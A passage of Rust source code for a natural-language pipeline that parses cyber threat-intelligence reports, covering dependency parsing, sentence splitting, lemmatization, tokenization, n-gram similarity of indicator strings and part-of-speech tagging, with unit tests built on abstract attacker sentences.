                // Gerund right after a noun chunk: acl, logical subject =
                // the chunk head.
                st.attach(v, chunk_of(i).unwrap().head, DepLabel::Acl);
            }
            _ => {
                st.attach(v, prev_clause_verb(&verbs, v, root), DepLabel::Conj);
            }
        }
        prev_finite = v;
    }

    // --- linear attachment of chunks / prepositions ---
    let mut cur_verb: Option<usize> = None;
    let mut pending_subj: Option<usize> = None;
    let mut pending_prep: Option<usize> = None;
    let mut forward_preps: Vec<usize> = Vec::new();
    let mut pending_cc: Option<usize> = None;
    let mut last_noun: Option<usize> = None;
    let mut has_dobj: raptor_common::FxHashSet<usize> = Default::default();
    let mut has_subj: raptor_common::FxHashSet<usize> = Default::default();

    let mut i = 0usize;
    while i < n {
        match toks[i].pos {
            PosTag::Verb => {
                // A verb begins/continues a clause: flush pending subject.
                if let Some(s) = pending_subj.take() {
                    let lbl = if passive[i] { DepLabel::NsubjPass } else { DepLabel::Nsubj };
                    // Gerund-acl / relcl / xcomp verbs inherit subjects
                    // structurally; only clause heads get the pre-verbal one.
                    if !matches!(st.label[i], DepLabel::Acl | DepLabel::RelCl | DepLabel::Xcomp)
                        && !has_subj.contains(&i)
                    {
                        st.attach(s, i, lbl);
                        has_subj.insert(i);
                    }
                }
                cur_verb = Some(i);
                pending_prep = None;
                i += 1;
            }
            PosTag::Adp => {
                pending_prep = Some(i);
                i += 1;
            }
            PosTag::Cconj => {
                // Verb coordination was handled in clause linking (the CC
                // got attached there). If this CC is still unattached, it
                // coordinates nouns.
                if st.head[i].is_none() {
                    pending_cc = Some(i);
                }
                i += 1;
            }
            PosTag::Det
            | PosTag::Adj
            | PosTag::Num
            | PosTag::Noun
            | PosTag::Propn
            | PosTag::Pron => {
                if st.head[i].is_some() && !matches!(st.label[i], DepLabel::Dep) {
                    // Already attached (chunk interior, relative pronoun...).
                    i += 1;
                    continue;
                }
                let chunk = chunk_of(i);
                let (head, end) = match chunk {
                    Some(c) => (c.head, c.end),
                    None => (i, i + 1),
                };
                if st.head[head].is_some() {
                    i = end;
                    continue;
                }
                if let Some(p) = pending_prep.take() {
                    match cur_verb {
                        Some(v) => st.attach(p, v, DepLabel::Prep),
                        None => forward_preps.push(p),
                    }
                    st.attach(head, p, DepLabel::Pobj);
                    last_noun = Some(head);
                } else if let (Some(cc), Some(prev)) = (pending_cc, last_noun) {
                    st.attach(head, prev, DepLabel::Conj);
                    st.attach(cc, head, DepLabel::Cc);
                    pending_cc = None;
                } else {
                    match cur_verb {
                        None => {
                            pending_subj = Some(head);
                        }
                        Some(v) => {
                            if has_dobj.contains(&v) {
                                st.attach(head, v, DepLabel::Dep);
                            } else {
                                st.attach(head, v, DepLabel::Dobj);
                                has_dobj.insert(v);
                            }
                        }
                    }
                    last_noun = Some(head);
                }
                i = end;
            }
            PosTag::Punct => {
                // Clause boundary bookkeeping: a comma ends the influence of
                // a pending preposition.
                pending_prep = None;
                i += 1;
            }
            _ => {
                i += 1;
            }
        }
    }

    // Forward-pending prepositions (sentence-initial PPs) hang off the root.
    for p in forward_preps {
        st.attach(p, root, DepLabel::Prep);
    }
    // A pre-verbal subject with no verb (verbless fragment): child of root.
    if let Some(s) = pending_subj {
        st.attach(s, root, DepLabel::Dep);
    }

    // --- leftovers ---
    #[allow(clippy::needless_range_loop)]
    for i in 0..n {
        if i != root && st.head[i].is_none() {
            let lbl = match toks[i].pos {
                PosTag::Punct => DepLabel::Punct,
                PosTag::Adv => DepLabel::Advmod,
                _ => DepLabel::Dep,
            };
            st.attach(i, root, lbl);
        }
    }

    // Build child lists.
    let mut nodes: Vec<DepNode> = st
        .head
        .iter()
        .zip(st.label.iter())
        .map(|(&h, &l)| DepNode { head: h, label: l, children: Vec::new() })
        .collect();
    for i in 0..n {
        if let Some(h) = nodes[i].head {
            nodes[h].children.push(i);
        }
    }
    DepTree { nodes, root }
}

fn prev_clause_verb(verbs: &[usize], v: usize, root: usize) -> usize {
    verbs.iter().copied().rfind(|&x| x < v).unwrap_or(root)
}

fn find_chunks(toks: &[Token]) -> Vec<Chunk> {
    let mut chunks = Vec::new();
    let mut i = 0usize;
    let n = toks.len();
    while i < n {
        match toks[i].pos {
            PosTag::Pron => {
                // Pronouns are singleton chunks unless relative (handled in
                // clause linking).
                if !matches!(toks[i].lower.as_str(), "which" | "that" | "who") {
                    chunks.push(Chunk { start: i, end: i + 1, head: i });
                }
                i += 1;
            }
            PosTag::Det | PosTag::Adj | PosTag::Num | PosTag::Noun | PosTag::Propn => {
                let start = i;
                let mut j = i;
                while j < n
                    && matches!(
                        toks[j].pos,
                        PosTag::Det | PosTag::Adj | PosTag::Num | PosTag::Noun | PosTag::Propn
                    )
                {
                    j += 1;
                }
                // Head: last NOUN/PROPN in the run, else last token.
                let head = (start..j)
                    .rev()
                    .find(|&k| matches!(toks[k].pos, PosTag::Noun | PosTag::Propn))
                    .unwrap_or(j - 1);
                chunks.push(Chunk { start, end: j, head });
                i = j;
            }
            _ => i += 1,
        }
    }
    chunks
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pos::tag;
    use crate::tokenize::tokenize;

    fn parse_str(s: &str) -> (Vec<Token>, DepTree) {
        let mut toks = tokenize(s, 0);
        tag(&mut toks);
        let tree = parse(&toks);
        (toks, tree)
    }

    fn idx(toks: &[Token], word: &str) -> usize {
        toks.iter().position(|t| t.lower == word).unwrap()
    }

    fn nth_idx(toks: &[Token], word: &str, n: usize) -> usize {
        toks.iter().enumerate().filter(|(_, t)| t.lower == word).map(|(i, _)| i).nth(n).unwrap()
    }

    #[test]
    fn instrument_xcomp_chain() {
        // "The attacker used something to read credentials from something."
        let (toks, tree) =
            parse_str("The attacker used something to read credentials from something .");
        assert!(tree.is_well_formed());
        let used = idx(&toks, "used");
        let read = idx(&toks, "read");
        let tool = nth_idx(&toks, "something", 0);
        let src = nth_idx(&toks, "something", 1);
        assert_eq!(tree.root, used);
        assert_eq!(tree.nodes[idx(&toks, "attacker")].label, DepLabel::Nsubj);
        assert_eq!(tree.nodes[idx(&toks, "attacker")].head, Some(used));
        assert_eq!(tree.nodes[tool].label, DepLabel::Dobj);
        assert_eq!(tree.nodes[tool].head, Some(used));
        assert_eq!(tree.nodes[read].label, DepLabel::Xcomp);
        assert_eq!(tree.nodes[read].head, Some(used));
        let from = idx(&toks, "from");
        assert_eq!(tree.nodes[from].label, DepLabel::Prep);
        assert_eq!(tree.nodes[from].head, Some(read));
        assert_eq!(tree.nodes[src].label, DepLabel::Pobj);
        assert_eq!(tree.nodes[src].head, Some(from));
    }

    #[test]
    fn verb_coordination_shares_subject() {
        // "/bin/bzip2 read from A and wrote to B." (protected)
        let (toks, tree) = parse_str("something read from something and wrote to something .");
        assert!(tree.is_well_formed());
        let read = idx(&toks, "read");
        let wrote = idx(&toks, "wrote");
        assert_eq!(tree.root, read);
        assert_eq!(tree.nodes[wrote].label, DepLabel::Conj);
        assert_eq!(tree.nodes[wrote].head, Some(read));
        let subj = nth_idx(&toks, "something", 0);
        assert_eq!(tree.nodes[subj].label, DepLabel::Nsubj);
        // Prepositional objects attach to their own verbs.
        let a = nth_idx(&toks, "something", 1);
        let b = nth_idx(&toks, "something", 2);
        let from = idx(&toks, "from");
        let to = idx(&toks, "to");
        assert_eq!(tree.nodes[a].head, Some(from));
        assert_eq!(tree.nodes[from].head, Some(read));
        assert_eq!(tree.nodes[b].head, Some(to));
        assert_eq!(tree.nodes[to].head, Some(wrote));
    }

    #[test]
    fn passive_with_agent() {
        let (toks, tree) = parse_str("The file was downloaded by the malware .");
        assert!(tree.is_well_formed());
        let dl = idx(&toks, "downloaded");
        assert_eq!(tree.root, dl);
        assert_eq!(tree.nodes[idx(&toks, "file")].label, DepLabel::NsubjPass);
        assert_eq!(tree.nodes[idx(&toks, "was")].label, DepLabel::AuxPass);
        let by = idx(&toks, "by");
        assert_eq!(tree.nodes[by].label, DepLabel::Prep);
        assert_eq!(tree.nodes[idx(&toks, "malware")].head, Some(by));
    }

    #[test]
    fn gerund_acl_on_noun() {
        // "the launched process /usr/bin/gpg reading from /tmp/upload.tar.bz2"
        let (toks, tree) =
            parse_str("It corresponds to the launched process something reading from something .");
        assert!(tree.is_well_formed());
        let reading = idx(&toks, "reading");
        let gpg = nth_idx(&toks, "something", 0);
        let bz2 = nth_idx(&toks, "something", 1);
        assert_eq!(tree.nodes[reading].label, DepLabel::Acl);
        assert_eq!(tree.nodes[reading].head, Some(gpg));
        let from = idx(&toks, "from");
        assert_eq!(tree.nodes[from].head, Some(reading));
        assert_eq!(tree.nodes[bz2].head, Some(from));
        // LCA of the IOC pair is the subject IOC itself.
        assert_eq!(tree.lca(gpg, bz2), gpg);
        assert_eq!(tree.labels_from(gpg, bz2), vec![DepLabel::Acl, DepLabel::Prep, DepLabel::Pobj]);
    }

    #[test]
    fn relative_clause() {
        let (toks, tree) = parse_str("It downloaded the payload , which connects to something .");
        assert!(tree.is_well_formed());
        let connects = idx(&toks, "connects");
        let payload = idx(&toks, "payload");
        assert_eq!(tree.nodes[connects].label, DepLabel::RelCl);
        assert_eq!(tree.nodes[connects].head, Some(payload));
        assert_eq!(tree.nodes[idx(&toks, "which")].label, DepLabel::Nsubj);
    }

    #[test]
    fn noun_chunk_head_is_trailing_ioc() {
        // "a file /tmp/upload.tar" (protected): head = "something".
        let (toks, tree) = parse_str("It wrote the data to a file something .");
        let something = idx(&toks, "something");
        let file = idx(&toks, "file");
        assert!(tree.is_well_formed());
        assert_eq!(tree.nodes[file].label, DepLabel::Compound);
        assert_eq!(tree.nodes[file].head, Some(something));
        assert_eq!(tree.nodes[something].label, DepLabel::Pobj);
    }

    #[test]
    fn lca_and_paths() {
        let (toks, tree) =
            parse_str("The attacker used something to read credentials from something .");
        let used = idx(&toks, "used");
        let tool = nth_idx(&toks, "something", 0);
        let src = nth_idx(&toks, "something", 1);
        assert_eq!(tree.lca(tool, src), used);
        assert_eq!(tree.labels_from(used, tool), vec![DepLabel::Dobj]);
        assert_eq!(
            tree.labels_from(used, src),
            vec![DepLabel::Xcomp, DepLabel::Prep, DepLabel::Pobj]
        );
    }

    #[test]
    fn sentence_initial_pp_attaches_to_root() {
        let (toks, tree) = parse_str("After the reconnaissance , the attacker scans the system .");
        assert!(tree.is_well_formed());
        let scans = idx(&toks, "scans");
        assert_eq!(tree.root, scans);
        let after = idx(&toks, "after");
        assert_eq!(tree.nodes[after].label, DepLabel::Prep);
        assert_eq!(tree.nodes[after].head, Some(scans));
    }

    #[test]
    fn every_node_reaches_root() {
        for s in [
            "The attacker leveraged something utility to compress the tar file .",
            "Finally , the attacker leveraged the curl utility something to read the data from something .",
            "He leaked the gathered sensitive information back to the attacker C2 host by using something to connect to something .",
            "Then it stopped .",
            "something",
            "",
        ] {
            let (_, tree) = parse_str(s);
            assert!(tree.is_well_formed(), "sentence failed: {s}");
        }
    }

    #[test]
    fn noun_coordination() {
        let (toks, tree) = parse_str("It reads passwords and credentials from something .");
        assert!(tree.is_well_formed());
        let pw = idx(&toks, "passwords");
        let cr = idx(&toks, "credentials");
        assert_eq!(tree.nodes[cr].label, DepLabel::Conj);
        assert_eq!(tree.nodes[cr].head, Some(pw));
    }
}
