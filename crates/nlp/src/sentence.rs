//! Sentence segmentation.
//!
//! Splits a text block into sentences at `.`, `!`, `?` followed by
//! whitespace and an uppercase/digit/opening-quote continuation, with an
//! abbreviation list preventing false splits. This runs *after* IOC
//! protection in the extraction pipeline — which is the paper's point: raw
//! IOCs like `/etc/passwd` or `192.168.29.128` are full of dots that destroy
//! naive segmentation, but the protected text is ordinary prose.

/// Abbreviations that do not end sentences.
const ABBREVIATIONS: &[&str] = &[
    "e.g", "i.e", "etc", "vs", "cf", "mr", "mrs", "ms", "dr", "prof", "fig", "sec", "no", "vol",
    "approx", "dept", "est", "inc", "ltd", "co", "corp",
];

/// A sentence span: byte offsets into the block.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SentenceSpan {
    pub start: usize,
    pub end: usize,
}

/// Segments `text` into sentence spans.
pub fn segment(text: &str) -> Vec<SentenceSpan> {
    let bytes = text.as_bytes();
    let mut spans = Vec::new();
    let mut start = 0usize;
    let mut i = 0usize;
    while i < bytes.len() {
        let c = bytes[i] as char;
        if c == '.' || c == '!' || c == '?' {
            // Look back: abbreviation?
            let prev_word = last_word(&text[start..i]);
            let is_abbrev =
                c == '.' && ABBREVIATIONS.iter().any(|a| prev_word.eq_ignore_ascii_case(a));
            // Look ahead: whitespace then a sentence-opening character.
            let mut j = i + 1;
            // Absorb closing quotes/brackets right after the terminator.
            while j < bytes.len() && matches!(bytes[j] as char, '"' | '\'' | ')' | ']') {
                j += 1;
            }
            let mut k = j;
            while k < bytes.len() && (bytes[k] as char).is_whitespace() {
                k += 1;
            }
            let opens_sentence = k >= bytes.len()
                || (bytes[k] as char).is_uppercase()
                || (bytes[k] as char).is_ascii_digit()
                || matches!(bytes[k] as char, '"' | '\'' | '(' | '/');
            if !is_abbrev && k > j && opens_sentence || (!is_abbrev && k >= bytes.len()) {
                spans.push(SentenceSpan { start, end: j });
                start = k;
                i = k;
                continue;
            }
        }
        i += 1;
    }
    if start < text.len() {
        let tail = text[start..].trim();
        if !tail.is_empty() {
            spans.push(SentenceSpan { start, end: text.len() });
        }
    }
    spans
}

/// Sentences as string slices.
pub fn sentences(text: &str) -> Vec<&str> {
    segment(text)
        .into_iter()
        .map(|s| text[s.start..s.end].trim())
        .filter(|s| !s.is_empty())
        .collect()
}

fn last_word(s: &str) -> &str {
    s.rsplit(|c: char| c.is_whitespace() || c == '(' || c == ',').next().unwrap_or("")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_simple_sentences() {
        let s = sentences("The attacker used something. It wrote the data to something.");
        assert_eq!(s.len(), 2);
        assert_eq!(s[0], "The attacker used something.");
        assert_eq!(s[1], "It wrote the data to something.");
    }

    #[test]
    fn abbreviations_do_not_split() {
        let s = sentences("The tools, e.g. something, were used. Then it stopped.");
        assert_eq!(s.len(), 2);
        assert!(s[0].contains("e.g. something"));
    }

    #[test]
    fn question_and_exclamation() {
        let s = sentences("What happened? The host was compromised! Then data left.");
        assert_eq!(s.len(), 3);
    }

    #[test]
    fn no_split_before_lowercase() {
        // A stray period followed by lowercase does not open a sentence.
        let s = sentences("The file ver. two was read. Done.");
        assert_eq!(s.len(), 2);
    }

    #[test]
    fn trailing_text_without_terminator() {
        let s = sentences("First sentence. second half continues without cap");
        assert_eq!(s.len(), 1, "{s:?}");
        let s = sentences("No terminator at all");
        assert_eq!(s, vec!["No terminator at all"]);
    }

    #[test]
    fn ioc_terminated_sentences_split_where_protection_makes_them_uniform() {
        // A dotted IOC at a sentence boundary: the terminator of the first
        // sentence is the IOC's own final dot context — segmentation relies
        // on the following capital, which holds both raw and protected, but
        // the *raw* first sentence carries a mangled IOC while the protected
        // one is clean prose.
        let raw = "The malware connected to 192.168.29.128. Data was leaked.";
        let protected = "The malware connected to something. Data was leaked.";
        assert_eq!(sentences(protected).len(), 2);
        assert_eq!(sentences(raw).len(), 2);
        // The raw variant leaves a truncated IOC in sentence 1 (its trailing
        // ".128." is fused with the terminator) — exactly why protection
        // must happen before segmentation.
        assert!(sentences(raw)[0].ends_with("192.168.29.128."));
    }

    #[test]
    fn empty_input() {
        assert!(sentences("").is_empty());
        assert!(sentences("   ").is_empty());
    }

    #[test]
    fn spans_cover_offsets() {
        let text = "Alpha beta. Gamma delta.";
        let spans = segment(text);
        assert_eq!(spans.len(), 2);
        assert_eq!(&text[spans[0].start..spans[0].end], "Alpha beta.");
        assert_eq!(&text[spans[1].start..spans[1].end], "Gamma delta.");
    }
}
