//! Lemmatization.
//!
//! Maps inflected verb forms back to their base form so extracted relation
//! verbs are canonical ("wrote" → "write", "downloads" → "download").
//! Irregular table first, then suffix stripping with doubled-consonant and
//! silent-e restoration, validated against the verb lexicon when possible.

use crate::pos::VERB_LEXICON;

const IRREGULARS: &[(&str, &str)] = &[
    ("began", "begin"),
    ("brought", "bring"),
    ("built", "build"),
    ("came", "come"),
    ("did", "do"),
    ("found", "find"),
    ("gave", "give"),
    ("got", "get"),
    ("had", "have"),
    ("held", "hold"),
    ("hid", "hide"),
    ("kept", "keep"),
    ("left", "leave"),
    ("made", "make"),
    ("ran", "run"),
    ("sent", "send"),
    ("sought", "seek"),
    ("stole", "steal"),
    ("took", "take"),
    ("was", "be"),
    ("went", "go"),
    ("were", "be"),
    ("wrote", "write"),
];

fn in_lexicon(s: &str) -> bool {
    VERB_LEXICON.binary_search(&s).is_ok()
}

/// Lemmatizes a (lowercased) verb form.
pub fn lemmatize_verb(lower: &str) -> String {
    if let Ok(i) = IRREGULARS.binary_search_by_key(&lower, |&(w, _)| w) {
        return IRREGULARS[i].1.to_string();
    }
    if in_lexicon(lower) {
        return lower.to_string();
    }
    // -ies → -y ("copies" → "copy")
    if let Some(stem) = lower.strip_suffix("ies") {
        let cand = format!("{stem}y");
        if in_lexicon(&cand) {
            return cand;
        }
    }
    // -es / -s ("executes" → "execute", "downloads" → "download")
    for suf in ["es", "s"] {
        if let Some(stem) = lower.strip_suffix(suf) {
            if in_lexicon(stem) {
                return stem.to_string();
            }
        }
    }
    // -ed / -ing with silent-e and doubled-consonant restoration.
    for suf in ["ed", "ing"] {
        if let Some(stem) = lower.strip_suffix(suf) {
            if in_lexicon(stem) {
                return stem.to_string();
            }
            let with_e = format!("{stem}e");
            if in_lexicon(&with_e) {
                return with_e;
            }
            if stem.len() >= 2 {
                let b = stem.as_bytes();
                if b[b.len() - 1] == b[b.len() - 2] {
                    let undoubled = &stem[..stem.len() - 1];
                    if in_lexicon(undoubled) {
                        return undoubled.to_string();
                    }
                }
            }
            // Unknown verb: best-effort strip anyway ("beaconed" → "beacon").
            if stem.len() >= 3 {
                return stem.to_string();
            }
        }
    }
    lower.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn irregular_table_is_sorted() {
        let mut sorted = IRREGULARS.to_vec();
        sorted.sort_by_key(|&(w, _)| w);
        assert_eq!(sorted, IRREGULARS);
    }

    #[test]
    fn irregulars() {
        assert_eq!(lemmatize_verb("wrote"), "write");
        assert_eq!(lemmatize_verb("ran"), "run");
        assert_eq!(lemmatize_verb("stole"), "steal");
        assert_eq!(lemmatize_verb("sent"), "send");
    }

    #[test]
    fn regular_suffixes() {
        assert_eq!(lemmatize_verb("downloads"), "download");
        assert_eq!(lemmatize_verb("downloaded"), "download");
        assert_eq!(lemmatize_verb("downloading"), "download");
        assert_eq!(lemmatize_verb("executes"), "execute");
        assert_eq!(lemmatize_verb("executed"), "execute");
        assert_eq!(lemmatize_verb("reads"), "read");
        assert_eq!(lemmatize_verb("copies"), "copy");
    }

    #[test]
    fn silent_e_restoration() {
        assert_eq!(lemmatize_verb("used"), "use");
        assert_eq!(lemmatize_verb("using"), "use");
        assert_eq!(lemmatize_verb("compressed"), "compress");
        assert_eq!(lemmatize_verb("leveraged"), "leverage");
        assert_eq!(lemmatize_verb("encrypted"), "encrypt");
    }

    #[test]
    fn doubled_consonant() {
        assert_eq!(lemmatize_verb("dropped"), "drop");
        assert_eq!(lemmatize_verb("scanning"), "scan");
    }

    #[test]
    fn base_forms_pass_through() {
        assert_eq!(lemmatize_verb("read"), "read");
        assert_eq!(lemmatize_verb("connect"), "connect");
    }

    #[test]
    fn unknown_words_best_effort() {
        assert_eq!(lemmatize_verb("beaconed"), "beacon");
        assert_eq!(lemmatize_verb("frobnicate"), "frobnicate");
    }
}
