//! Word/punctuation tokenization.
//!
//! Splits text into word and punctuation tokens, preserving byte offsets so
//! downstream stages (IOC restoration, relation ordering by text offset) can
//! map tokens back into the source. The tokenizer assumes IOC protection has
//! already replaced pathological strings; ordinary English conventions apply:
//! punctuation splits off words, sentence-internal hyphens stay inside words
//! ("command-and-control"), trailing periods split ("passwd.").

use crate::pos::{PosTag, VerbForm};

/// A token with its source span and (after tagging) POS information.
#[derive(Clone, Debug, PartialEq)]
pub struct Token {
    /// Original text of the token.
    pub text: String,
    /// Lowercased text (cached; tagging and lemmatization key off it).
    pub lower: String,
    /// Byte offset of the first byte in the source text.
    pub start: usize,
    /// Byte offset one past the last byte.
    pub end: usize,
    /// Part-of-speech tag (set by [`crate::pos::tag`]; defaults to `X`).
    pub pos: PosTag,
    /// Verb form detail for VERB/AUX tokens.
    pub verb_form: Option<VerbForm>,
}

impl Token {
    fn new(text: &str, start: usize) -> Self {
        Token {
            text: text.to_string(),
            lower: text.to_lowercase(),
            start,
            end: start + text.len(),
            pos: PosTag::X,
            verb_form: None,
        }
    }

    /// Is this token a single punctuation mark?
    pub fn is_punct(&self) -> bool {
        self.text.len() == 1 && self.text.chars().next().is_some_and(|c| c.is_ascii_punctuation())
    }
}

fn is_word_char(c: char) -> bool {
    c.is_alphanumeric() || c == '_' || c == '\''
}

/// Tokenizes one sentence (or any text span). `base` offsets all spans, so
/// tokens of a sentence can carry document-level offsets.
pub fn tokenize(text: &str, base: usize) -> Vec<Token> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let mut i = 0usize;
    while i < bytes.len() {
        let c = text[i..].chars().next().unwrap();
        if c.is_whitespace() {
            i += c.len_utf8();
            continue;
        }
        if is_word_char(c) {
            let start = i;
            let mut j = i;
            while j < bytes.len() {
                let d = text[j..].chars().next().unwrap();
                if is_word_char(d) {
                    j += d.len_utf8();
                } else if (d == '-' || d == '.') && j + d.len_utf8() < bytes.len() {
                    // Keep internal hyphens and internal dots only when a
                    // word character follows AND (for dots) one precedes —
                    // "e.g." stays whole, a sentence-final "." splits off.
                    let next = text[j + d.len_utf8()..].chars().next();
                    if next.is_some_and(is_word_char) {
                        j += d.len_utf8();
                    } else {
                        break;
                    }
                } else {
                    break;
                }
            }
            out.push(Token::new(&text[start..j], base + start));
            i = j;
        } else {
            // Punctuation: one token per mark.
            out.push(Token::new(&text[i..i + c.len_utf8()], base + i));
            i += c.len_utf8();
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(s: &str) -> Vec<String> {
        tokenize(s, 0).into_iter().map(|t| t.text).collect()
    }

    #[test]
    fn basic_splitting() {
        assert_eq!(
            texts("The attacker used something to read credentials."),
            vec!["The", "attacker", "used", "something", "to", "read", "credentials", "."]
        );
    }

    #[test]
    fn punctuation_splits() {
        assert_eq!(
            texts("It wrote, then read; finally (it) stopped."),
            vec![
                "It", "wrote", ",", "then", "read", ";", "finally", "(", "it", ")", "stopped", "."
            ]
        );
    }

    #[test]
    fn internal_hyphen_and_dot_kept() {
        assert_eq!(texts("command-and-control"), vec!["command-and-control"]);
        assert_eq!(texts("e.g. test"), vec!["e.g", ".", "test"]);
        // Version-ish tokens keep internal dots.
        assert_eq!(texts("stage 2.1 server"), vec!["stage", "2.1", "server"]);
    }

    #[test]
    fn offsets_are_byte_accurate() {
        let toks = tokenize("ab cd.", 100);
        assert_eq!(toks[0].start, 100);
        assert_eq!(toks[0].end, 102);
        assert_eq!(toks[1].start, 103);
        assert_eq!(toks[2].text, ".");
        assert_eq!(toks[2].start, 105);
    }

    #[test]
    fn contractions_stay_joined() {
        assert_eq!(texts("attacker's tool"), vec!["attacker's", "tool"]);
    }

    #[test]
    fn empty_and_whitespace() {
        assert!(texts("").is_empty());
        assert!(texts("   \t\n ").is_empty());
    }

    #[test]
    fn unprotected_iocs_shatter() {
        // The failure mode IOC protection exists to avoid (Table V's
        // "-IOC Protection" row): raw file paths split at every slash, so
        // no single token carries the IOC and tagging/parsing degrade.
        assert_eq!(texts("/etc/passwd"), vec!["/", "etc", "/", "passwd"],);
        assert_eq!(texts("something").len(), 1);
    }

    #[test]
    fn is_punct_helper() {
        let toks = tokenize("a .", 0);
        assert!(!toks[0].is_punct());
        assert!(toks[1].is_punct());
    }
}
