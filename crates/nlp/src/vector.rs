//! Hashed character-n-gram embeddings.
//!
//! The paper merges IOCs that appear in different surface forms using "both
//! the character-level overlap and the semantic similarity of word vectors"
//! (Step 8 of Algorithm 1, using spaCy's vectors). Pretrained embeddings are
//! unavailable here, and IOC "semantics" are dominated by lexical shape
//! (paths, hostnames, hashes), so the substitute is a hashed character
//! trigram/quadgram bag projected into a fixed-dimension vector with cosine
//! similarity. Related strings ("upload.tar" vs "/tmp/upload.tar.bz2") score
//! high; unrelated IOCs score near zero.

const DIM: usize = 128;

/// A dense fixed-dimension embedding.
#[derive(Clone, Debug, PartialEq)]
pub struct Embedding(pub [f32; DIM]);

fn hash_ngram(gram: &[u8], seed: u64) -> usize {
    // FNV-1a with a seed twist; cheap and deterministic.
    let mut h: u64 = 0xcbf2_9ce4_8422_2325 ^ seed;
    for &b in gram {
        h ^= b as u64;
        h = h.wrapping_mul(0x1000_0000_01b3);
    }
    (h % DIM as u64) as usize
}

/// Embeds a string as a normalized bag of character 3- and 4-grams.
pub fn embed(s: &str) -> Embedding {
    let mut v = [0f32; DIM];
    let lower = s.to_lowercase();
    let bytes = lower.as_bytes();
    for n in [3usize, 4] {
        if bytes.len() < n {
            continue;
        }
        for w in bytes.windows(n) {
            v[hash_ngram(w, n as u64)] += 1.0;
        }
    }
    // Whole-word unigram channel keeps very short strings representable.
    if bytes.len() < 3 && !bytes.is_empty() {
        v[hash_ngram(bytes, 7)] += 1.0;
    }
    let norm: f32 = v.iter().map(|x| x * x).sum::<f32>().sqrt();
    if norm > 0.0 {
        for x in &mut v {
            *x /= norm;
        }
    }
    Embedding(v)
}

/// Cosine similarity of two embeddings (vectors are pre-normalized, so this
/// is a dot product). Range `[0, 1]` for count vectors.
pub fn cosine(a: &Embedding, b: &Embedding) -> f32 {
    a.0.iter().zip(b.0.iter()).map(|(x, y)| x * y).sum()
}

/// Convenience: cosine similarity of two strings.
pub fn similarity(a: &str, b: &str) -> f32 {
    cosine(&embed(a), &embed(b))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identical_strings_score_one() {
        let s = similarity("/tmp/upload.tar", "/tmp/upload.tar");
        assert!((s - 1.0).abs() < 1e-5);
    }

    #[test]
    fn related_iocs_score_high() {
        assert!(similarity("upload.tar", "/tmp/upload.tar") > 0.6);
        assert!(similarity("/tmp/upload.tar", "/tmp/upload.tar.bz2") > 0.6);
        assert!(similarity("john.zip", "/tmp/john.zip") > 0.5);
    }

    #[test]
    fn unrelated_iocs_score_low() {
        assert!(similarity("/etc/passwd", "192.168.29.128") < 0.2);
        assert!(similarity("/bin/tar", "/usr/bin/gpg") < 0.5);
    }

    #[test]
    fn case_insensitive() {
        assert!((similarity("VPNFilter", "vpnfilter") - 1.0).abs() < 1e-5);
    }

    #[test]
    fn short_strings_do_not_panic() {
        assert!(similarity("a", "a") > 0.99);
        assert_eq!(similarity("", "abc"), 0.0);
        assert_eq!(similarity("", ""), 0.0);
    }

    #[test]
    fn symmetry() {
        for (a, b) in [("/bin/tar", "/bin/bzip2"), ("x", "xyz"), ("abc", "abcd")] {
            assert!((similarity(a, b) - similarity(b, a)).abs() < 1e-6);
        }
    }
}
