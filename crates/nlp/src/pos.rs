//! Part-of-speech tagging.
//!
//! A deterministic three-stage tagger: (1) closed-class lexicon lookup,
//! (2) morphology (suffix) rules with a security-verb lexicon, (3) context
//! repair passes (participles after determiners become adjectives,
//! infinitival `to`, modal complements, noun/verb disambiguation by the
//! preceding tag). Accuracy on the OSCTI register — short declarative
//! sentences about tools reading/writing/connecting — is what matters, not
//! newswire coverage.

use crate::tokenize::Token;

/// Coarse universal-style POS tags.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum PosTag {
    Noun,
    Propn,
    Verb,
    Aux,
    Det,
    Adj,
    Adv,
    Pron,
    /// Adposition (preposition).
    Adp,
    /// Coordinating conjunction.
    Cconj,
    /// Subordinating conjunction.
    Sconj,
    /// Particle (infinitival `to`).
    Part,
    Num,
    Punct,
    /// Unknown.
    X,
}

/// Verb form detail.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum VerbForm {
    Base,
    Past,
    Gerund,
    Participle,
    ThirdPerson,
}

/// Base-form verbs common in OSCTI text (the tagger recognizes their
/// inflections through [`crate::lemma`]).
pub const VERB_LEXICON: &[&str] = &[
    "access",
    "append",
    "archive",
    "attack",
    "attempt",
    "beacon",
    "browse",
    "bypass",
    "capture",
    "click",
    "collect",
    "communicate",
    "compress",
    "compromise",
    "conduct",
    "connect",
    "contact",
    "contain",
    "continue",
    "copy",
    "correspond",
    "crack",
    "create",
    "decode",
    "decrypt",
    "delete",
    "deploy",
    "distribute",
    "download",
    "drop",
    "dump",
    "employ",
    "encode",
    "encrypt",
    "escalate",
    "establish",
    "evade",
    "execute",
    "exfiltrate",
    "exploit",
    "extract",
    "fetch",
    "gather",
    "get",
    "hide",
    "host",
    "include",
    "infect",
    "inject",
    "install",
    "involve",
    "launch",
    "leak",
    "leverage",
    "load",
    "log",
    "mail",
    "maintain",
    "modify",
    "monitor",
    "move",
    "obfuscate",
    "obtain",
    "open",
    "overwrite",
    "pack",
    "penetrate",
    "perform",
    "persist",
    "phish",
    "proceed",
    "propagate",
    "query",
    "read",
    "receive",
    "record",
    "register",
    "remove",
    "rename",
    "represent",
    "resolve",
    "retrieve",
    "run",
    "save",
    "scan",
    "schedule",
    "scrape",
    "seek",
    "send",
    "serve",
    "spawn",
    "spread",
    "start",
    "steal",
    "stop",
    "store",
    "target",
    "transfer",
    "try",
    "unpack",
    "unzip",
    "upload",
    "use",
    "utilize",
    "visit",
    "wipe",
    "write",
    "zip",
];

const NOUN_LEXICON: &[&str] = &[
    "activity",
    "activities",
    "address",
    "archive",
    "asset",
    "assets",
    "attachment",
    "attacker",
    "backdoor",
    "behavior",
    "behaviors",
    "browser",
    "command",
    "connection",
    "control",
    "credential",
    "credentials",
    "data",
    "detail",
    "details",
